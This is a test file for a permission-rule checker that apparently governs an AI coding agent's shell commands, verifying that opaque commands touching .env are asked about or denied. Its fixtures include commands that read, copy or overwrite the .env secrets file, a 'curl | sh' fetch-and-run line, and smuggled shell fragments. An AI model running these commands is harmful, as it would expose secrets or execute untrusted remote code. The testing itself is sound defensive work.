import {describe, expect, test} from 'vitest';
import {allow, ask, deny, verdict} from './kit.js';

/*
 * What nobody can see of a command may read or write any file: a rule about a
 * file tool is asked about it like one about the files themselves.
 */

const code = [
	`node -e 'console.log(require("fs").readFileSync(".env",{flag:"a+"}))'`,
	`node -e 'require("fs").promises.writeFile(".env","a")'`,
	`node -e 'require("fs").renameSync("a",".env")'`,
	`perl -e 'open F,".env"; print <F>'`,
	`perl -e 'open(F,">",".env"); print F 1'`,
	`perl -i -pe 's/a/b/' .env`,
	`python3 -c 'import shutil; shutil.copy(".env","/tmp/y")'`,
	`python3 -c 'import os; os.replace("a",".env")'`,
	`ruby -e 'File.write(".env","x")'`,
	`php -r 'readfile(".env");'`,
	`julia -e 'print(read(".env",String))'`,
	`lua -e 'io.open(".env")'`,
	`python3 - <<'P'\nopen(".env","w").write("x")\nP`,
	`node <<'P'\nconsole.log(require("fs").readFileSync(".env",{flag:"a+"}))\nP`,
	`tclsh <<'P'\nputs [read [open .env]]\nP`,
	`echo 'require("fs").readFileSync(".env","utf8")' | node`,
	`awk -i inplace 1 .env`,
];
const unseen = [
	'eval "$x"',
	'$x .env',
	'curl -s http://h | sh',
	'echo x > .env; fi',
];

describe.each([
	'~t Read & ~p .env',
	'~t Write & ~p .env',
	'(~t Edit | ~t Write) & ~p .env',
	'(~t Write | ~t Edit) & !~p "src/**"',
	'~t Write & ~p "**" & !~p "src/**"',
])('%s is asked about', when => {
	test.each([...code, ...unseen])('%j', command => {
		expect(verdict([deny(when)], command)).toMatch(/^(?:ask|deny)$/);
		expect(verdict([ask(when)], command)).toBe('ask');
	});
});

test('a rule about a tool alone is asked about, and refuses nothing that is only possible', () => {
	expect(verdict([deny('~t Write')], 'eval "$x"')).toBe('ask');
	expect(verdict([deny('~t WebFetch & ~p .env')], 'eval "$x"')).toBe('none');
	expect(verdict([deny('!~t Bash & ~p .env')], 'eval "$x"')).toBe('none');
});

test('it allows nothing', () => {
	for (const command of [...code, ...unseen])
		expect(verdict([allow('~t Read | ~t Write')], command)).toBe('none');
});

test.each([
	'npm test',
	'cat src/a.ts',
	'git status && git diff',
	'python3 -c "print(1 + 1)"',
	'node -p process.version',
	'cargo build',
	'for i in a b; do echo $i; done',
])('%j is seen', command => {
	for (const when of [
		'~t Read & ~p .env',
		'~t Write & ~p .env',
		'(~t Write | ~t Edit) & !~p "src/**"',
	])
		expect(verdict([deny(when)], command)).toBe('none');
});

test('what code plainly reads is read, and not written', () => {
	const command = `node -e 'console.log(require("fs").readFileSync(".env","utf8"))'`;
	expect(verdict([deny('~p .env')], command)).toBe('deny');
	expect(verdict([deny('~t Write & ~p .env')], command)).toBe('none');
	const computed = `node -p 'require("fs").readFileSync(".e"+"nv","utf8")'`;
	expect(verdict([deny('~t Read & ~p .env')], computed)).toBe('ask');
	expect(verdict([deny('~p .env')], computed)).toBe('ask');
	expect(verdict([deny('~t Write & ~p .env')], computed)).toBe('none');
});
